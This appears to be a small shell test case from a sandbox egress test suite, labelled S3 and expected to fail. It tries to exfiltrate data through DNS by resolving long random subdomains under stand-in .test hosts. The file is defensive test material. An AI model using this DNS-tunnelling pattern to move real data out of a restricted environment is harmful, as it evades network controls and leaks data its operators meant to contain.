# S3: exfiltrate through long random subdomain lookups
# expect: fail
# no-audit: name resolution involves no sidecar
label=$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
getent hosts "$label.$label.echo.test" || getent hosts "$label.git.test"
